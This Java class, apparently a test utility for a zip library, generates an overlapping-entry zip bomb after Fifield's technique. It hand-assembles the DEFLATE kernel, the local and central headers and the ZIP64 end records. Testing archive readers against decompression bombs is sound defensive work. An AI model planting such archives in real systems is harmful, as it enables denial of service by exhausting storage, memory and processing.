package io.zipmap.testing;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;

/**
 * Writes a zip bomb of overlapping entries (Fifield, "A better zip bomb", WOOT 2019). Each entry quotes the local
 * header of the next one in a stored block, and continues with its data. All end in one kernel of zeros, with 1032
 * decoded bytes per byte. Only the CRC-32 values are wrong.
 */
public final class OverlapBomb {
    private static final int LOCAL_BYTES = 30;
    private static final int QUOTE_BYTES = 5;

    /** Start of a dynamic block whose codes of length 258 and distance 1 are one zero bit each; a literal 0 first. */
    private static final String KERNEL_START = "1" + "01" + "10111" + "00000" + "0111" // final, dynamic, 286, 1, 18
            + "000000" + "100" + "000".repeat(12) + "010" + "000" + "010" // lengths of the codes of 18, 2 and 1
            + "11" + "0" + "1111111" + "0" + "0101011" // the literal 0; none of 255
            + "11" + "0" + "1000100" + "10" + "10" // 256; none of 28; 285; distance 1
            + "10";

    private final int files;
    private final long kernelBytes;

    /** @param kernelBytes bytes of zero bits in the kernel, without its start and end */
    public OverlapBomb(int files, int kernelBytes) {
        this.files = files;
        this.kernelBytes = kernelBytes;
    }

    private static String name(int i) {
        return String.format("%06x", i);
    }

    private static int headerBytes() {
        return LOCAL_BYTES + name(0).length();
    }

    private long compressed(int i) {
        return (long) (files - 1 - i) * (QUOTE_BYTES + headerBytes()) + kernelStart().length + kernelBytes + 1;
    }

    /** Decoded size of one entry. */
    public long size(int i) {
        long bits = (kernelStart().length + kernelBytes) * 8 - KERNEL_START.length() + 1;
        return (long) (files - 1 - i) * headerBytes() + 1 + bits / 2 * 258;
    }

    /** Decoded size of all entries. */
    public double total() {
        double total = 0;
        for (int i = 0; i < files; i++) {
            total += size(i);
        }
        return total;
    }

    private static byte[] kernelStart() {
        byte[] bytes = new byte[(KERNEL_START.length() + 7) / 8];
        for (int i = 0; i < KERNEL_START.length(); i++) {
            bytes[i / 8] |= (byte) ((KERNEL_START.charAt(i) - '0') << i % 8);
        }
        return bytes;
    }

    public Path write(Path file) throws IOException {
        try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(file), 1 << 16)) {
            for (int i = 0; i < files; i++) {
                out.write(local(i));
                if (i < files - 1) {
                    out.write(number(0, 1));
                    out.write(number(headerBytes() | ~headerBytes() << 16, 4));
                }
            }
            out.write(kernelStart());
            for (long i = 0; i < kernelBytes; i++) {
                out.write(0);
            }
            // One more zero bit completes the last pair; then the end of the block.
            out.write(0b110);
            long directory =
                    (long) files * headerBytes() + (files - 1L) * QUOTE_BYTES + kernelStart().length + kernelBytes + 1;
            for (int i = 0; i < files; i++) {
                out.write(central(i));
            }
            out.write(end(directory, (long) files * central(0).length));
        }
        return file;
    }

    private static byte[] number(long number, int width) {
        return Arrays.copyOf(
                ByteBuffer.allocate(8)
                        .order(ByteOrder.LITTLE_ENDIAN)
                        .putLong(number)
                        .array(),
                width);
    }

    private static ByteBuffer buffer(int bytes) {
        return ByteBuffer.allocate(bytes).order(ByteOrder.LITTLE_ENDIAN);
    }

    /** A local header marked as having its sizes after the data, so that it can stay short. */
    private static byte[] local(int i) {
        ByteBuffer out = buffer(headerBytes());
        out.putInt(0x04034b50).putShort((short) 45).putShort((short) 8).putShort((short) 8);
        out.position(26);
        out.putShort((short) name(i).length()).putShort((short) 0);
        return out.put(name(i).getBytes(StandardCharsets.US_ASCII)).array();
    }

    private byte[] central(int i) {
        ByteBuffer out = buffer(46 + name(i).length() + 20);
        out.putInt(0x02014b50)
                .putShort((short) 45)
                .putShort((short) 45)
                .putShort((short) 8)
                .putShort((short) 8);
        out.putInt(0).putInt(0).putInt(-1).putInt(-1);
        out.putShort((short) name(i).length()).putShort((short) 20);
        out.position(42);
        out.putInt(i * (headerBytes() + QUOTE_BYTES));
        out.put(name(i).getBytes(StandardCharsets.US_ASCII));
        return out.putShort((short) 1)
                .putShort((short) 16)
                .putLong(size(i))
                .putLong(compressed(i))
                .array();
    }

    private byte[] end(long directory, long size) {
        ByteBuffer out = buffer(56 + 20 + 22);
        out.putInt(0x06064b50)
                .putLong(44)
                .putShort((short) 45)
                .putShort((short) 45)
                .putInt(0)
                .putInt(0);
        out.putLong(files).putLong(files).putLong(size).putLong(directory);
        out.putInt(0x07064b50).putInt(0).putLong(directory + size).putInt(1);
        out.putInt(0x06054b50)
                .putInt(0)
                .putShort((short) -1)
                .putShort((short) -1)
                .putInt(-1)
                .putInt(-1);
        return out.putShort((short) 0).array();
    }
}
